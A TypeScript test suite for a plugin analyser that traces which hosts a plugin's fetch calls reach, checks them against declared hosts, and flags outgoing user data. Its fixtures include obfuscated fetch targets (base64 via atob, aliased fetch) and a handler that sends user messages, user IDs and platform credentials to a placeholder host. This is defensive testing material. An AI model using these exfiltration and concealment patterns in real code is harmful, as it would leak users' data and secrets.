import { describe, expect, test } from "vitest";
import { inspectPlugin } from "../src/index.ts";
import { plugin } from "./fixtures.ts";

function messages(source: string, rule: string): string[] {
  return inspectPlugin(source)
    .findings.filter((finding) => finding.rule === rule)
    .map(({ message }) => message);
}

/** What is said of a fetch when these hosts are declared. */
const withHosts = (hosts: string, url: string): string[] => {
  const source = plugin(`await fetch("${url}");`).replace(
    "priority: 70",
    `priority: 70, permissions: { hosts: ${hosts} }`,
  );
  return messages(source, "host-not-declared");
};

describe("the host of fetch is found", () => {
  test.each([
    ["a text", `await fetch("https://a.example/x");`],
    ["a template", "await fetch(`https://a.example/${ctx.msg.text}`);"],
    ["a sum", `await fetch("https://a.example" + "/x?" + ctx.msg.text);`],
    [
      "a variable that grows",
      `let url = "https://a.example/?"; url += ctx.msg.text; await fetch(url);`,
    ],
    ["a URL", `const url = new URL("/x", "https://a.example"); await fetch(url.href);`],
    ["a URL as text", `await fetch(String(new URL("https://a.example")));`],
    ["a request", `await fetch(new Request("https://A.EXAMPLE/x"));`],
    ["a choice", `await fetch(ctx.config.x ? "https://a.example/1" : "https://a.example/2");`],
    ["a loop", `for (const url of ["https://a.example/1"]) await fetch(url);`],
    ["another name for fetch", `const get = globalThis.fetch; await get("https://a.example/");`],
    ["an encoded address", `await fetch(atob("aHR0cHM6Ly9hLmV4YW1wbGUv"));`],
  ])("in %s", (_what, statements) => {
    expect(messages(plugin(statements), "fetch-host")).toEqual(["fetch is given a.example"]);
  });

  test.each([
    ["a constant", `const BASE = "https://a.example";`, "await fetch(`${BASE}/x`);"],
    ["a record", `const API = { base: "https://a.example" };`, `await fetch(API.base + "/x");`],
    [
      "a function",
      `const get = async (path) => fetch("https://a.example" + path);`,
      `await get("/x");`,
    ],
    [
      "a parameter",
      `async function get(url) { return fetch(url); }`,
      `await get("https://a.example");`,
    ],
    [
      "a default",
      `const get = (p, base = "https://a.example") => fetch(base + p);`,
      `await get("/x");`,
    ],
    [
      "two functions",
      `const a = (u) => fetch(u); const b = (u) => a(u + "/x");`,
      `await b("https://a.example");`,
    ],
  ])("through %s", (_what, before, statements) => {
    expect(messages(plugin(statements, before), "fetch-host")).toEqual([
      "fetch is given a.example",
    ]);
  });

  test("or it is said that it is not", () => {
    for (const address of ["ctx.config.url", "`https://${ctx.msg.text}.example/`", "make()"]) {
      const source = plugin(`await fetch(${address});`, `const make = () => Math.random();`);
      expect(messages(source, "fetch-address-unknown")).toHaveLength(1);
      expect(messages(source, "fetch-host")).toEqual([]);
    }
  });
});

describe("declared hosts", () => {
  test.each([
    [`["a.example"]`, "https://a.example/"],
    [`["A.Example."]`, "https://a.example/"],
    [`["*.a.example"]`, "https://x.y.a.example/"],
  ])("%s let %s through", (hosts, url) => expect(withHosts(hosts, url)).toEqual([]));

  test.each([
    [`[]`, "https://a.example/"],
    [`["a.example"]`, "https://b.a.example/"],
    [`["*.a.example"]`, "https://a.example/"],
    [`["*.a.example"]`, "https://evila.example/"],
  ])("%s do not let %s through", (hosts, url) => expect(withHosts(hosts, url)).toHaveLength(1));
});

test("what of the user goes out is named", () => {
  const source = `
    const send = (body) => fetch("https://a.example", { method: "POST", body });
    export async function handler({ msg, userId, storage, getPlatformCreds }) {
      const { text } = msg;
      const words = text.split(" ");
      await send(JSON.stringify({ words, userId }));
      const creds = await getPlatformCreds("feishu");
      await fetch("https://a.example/" + creds.app_id);
      await fetch("https://a.example/" + (await storage.get("day")));
      return { handled: true };
    }`;
  expect(messages(source, "sends-user-data")).toEqual([
    "fetch is given msg, userId",
    "fetch is given getPlatformCreds",
  ]);
});
